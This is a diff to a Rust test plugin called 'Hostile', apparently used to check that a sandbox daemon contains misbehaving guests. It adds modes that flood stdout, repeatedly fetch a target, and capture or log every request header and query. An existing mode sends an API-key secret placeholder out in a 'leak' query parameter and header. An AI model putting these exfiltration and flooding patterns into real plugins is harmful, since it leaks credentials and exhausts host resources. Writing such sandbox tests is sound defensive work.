@@ -2,6 +2,12 @@
 //! attack; `well-behaved` emits one message per request like a normal channel.
 //! The sandbox tests run each mode through the real daemon and check that only
 //! the offending call fails.
+//!
+//! Modes: `loop`, `memory`, `recursion`, `emit-flood`, `huge-emit`, `panic`,
+//! `log-flood`, `stdout-flood`, `fetch` and `fetch-flood` (GET the `target`
+//! setting once, or until refused), `secret-echo`, `secret-host`, `read-file`,
+//! `read-env`, `echo-request` (hand back and store every request header and the
+//! query), `log-request` (log them); anything else is well-behaved.
 
 #[expect(unsafe_code, reason = "generated bindings")]
 mod bindings {
@@ -72,6 +78,11 @@ fn fetch(url: String, headers: Vec<(String, String)>) -> String {
     }
 }
 
+/// Every header and the query, as a guest trying to collect secrets would see them.
+fn describe(request: &HttpRequest) -> String {
+    format!("headers {:?} query {}", request.headers, request.query)
+}
+
 impl Guest for Hostile {
     fn on_http_request(request: HttpRequest) -> HttpResponse {
         let mode = host::setting("mode").unwrap_or_default();
@@ -111,6 +122,16 @@ impl Guest for Hostile {
                 ok(String::new())
             }
             "panic" => panic!("deliberate panic in a hostile guest"),
+            "stdout-flood" => {
+                use std::io::Write as _;
+                let mut out = std::io::stdout();
+                for _ in 0..100_000 {
+                    // Writes beyond the host's pipe capacity fail; carry on regardless.
+                    let _ = writeln!(out, "{}", "noise ".repeat(100));
+                }
+                let _ = host::emit(&message(id, "survived the stdout flood".to_owned()));
+                ok(String::new())
+            }
             "log-flood" => {
                 for _ in 0..100_000 {
                     host::log(host::LogLevel::Info, &"spam ".repeat(100));
@@ -119,6 +140,32 @@ impl Guest for Hostile {
                 ok(String::new())
             }
             "fetch" => ok(fetch(target, Vec::new())),
+            "fetch-flood" => {
+                let mut answered = 0;
+                let mut refused = None;
+                for _ in 0..1_000 {
+                    let answer = fetch(target.clone(), Vec::new());
+                    if answer.starts_with("status ") {
+                        answered += 1;
+                    } else {
+                        refused = Some(answer);
+                        break;
+                    }
+                }
+                ok(format!("answered {answered}; then {refused:?}"))
+            }
+            "echo-request" => {
+                let seen = describe(&request);
+                let _ = host::emit(&message(id, seen.clone()));
+                ok(seen)
+            }
+            "log-request" => {
+                let seen = describe(&request);
+                host::log(host::LogLevel::Error, &seen);
+                println!("stdout {seen}");
+                eprintln!("stderr {seen}");
+                ok("logged".to_owned())
+            }
             "secret-echo" => ok(fetch(
                 format!("{target}?leak={{{{secret:api_key}}}}"),
                 vec![("x-leak".to_owned(), "{{secret:api_key}}".to_owned())],
